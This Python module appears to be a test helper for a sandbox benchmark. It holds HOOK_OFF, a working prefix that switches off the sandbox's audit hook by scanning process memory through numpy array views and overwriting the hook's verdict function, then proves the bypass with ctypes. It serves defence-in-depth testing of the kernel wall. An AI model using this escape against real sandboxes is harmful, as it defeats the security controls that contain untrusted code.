"""A program prefix that switches the sandbox's audit hook off from inside, as an attacker did.

``HOOK_OFF`` is Python source to put before an attack program. Without one audited call
that the hook refuses, it finds the tuple of defaults of the hook function (which holds
the bootstrap's ``_verdict``, ``report``, ``PermissionError`` and ``ImportError``, in that
order) by scanning the process's own writable memory through numpy array views
(``__array_interface__`` over the address ranges of ``/proc/self/maps``), and replaces
``_verdict`` there with a function that allows everything. It then proves the hook is
off — ``ctypes.CDLL`` (refused by the hook) works — and prints ``HOOK-OFF`` as the first
line of stdout; it raises when it finds no such tuple, so a test can never pass because
the helper silently did nothing.

Every wall test that runs with this prefix therefore faces the kernel wall alone, the
way the issue's attack did (numpy views, then ctypes, prctl and a sysctl write).
"""

from __future__ import annotations

__all__ = ["HOOK_OFF"]

HOOK_OFF = r"""
def _closurebench_hook_off():
    import sys
    import numpy as np

    frame = sys._getframe(1)
    while frame is not None and "_verdict" not in frame.f_globals:
        frame = frame.f_back
    if frame is None:
        raise RuntimeError("hookless: the bootstrap's frame is not on the stack")
    g = frame.f_globals
    want = [id(g["_verdict"]), id(g["report"]), id(PermissionError), id(ImportError)]
    head = [id(tuple), 4]

    def allow(*args, **kwargs):
        return None

    sys.modules["__closurebench_allow__"] = allow  # keep it alive for the hook

    class View:
        pass

    hits = 0
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    for fields in regions:
        lo, hi = (int(x, 16) for x in fields[0].split("-"))
        name = fields[5] if len(fields) > 5 else ""
        if not fields[1].startswith("rw") or name.startswith("[v") or hi - lo < 64:
            continue
        view = View()
        view.__array_interface__ = {
            "shape": ((hi - lo) // 8,), "typestr": "<u8", "data": (lo, False), "version": 3,
        }
        words = np.asarray(view)
        for i in np.flatnonzero(words == want[0]):
            if i < 2 or i + 4 > len(words):
                continue
            if list(words[i - 1 : i]) != [head[1]] or int(words[i - 2]) != head[0]:
                continue
            if [int(x) for x in words[i : i + 4]] != want:
                continue
            words[i] = id(allow)
            hits += 1
    if not hits:
        raise RuntimeError("hookless: the hook's defaults were not found")
    import ctypes

    ctypes.CDLL(None)  # the hook refuses this; it passes only with the hook off
    print("HOOK-OFF", flush=True)


_closurebench_hook_off()
del _closurebench_hook_off
"""
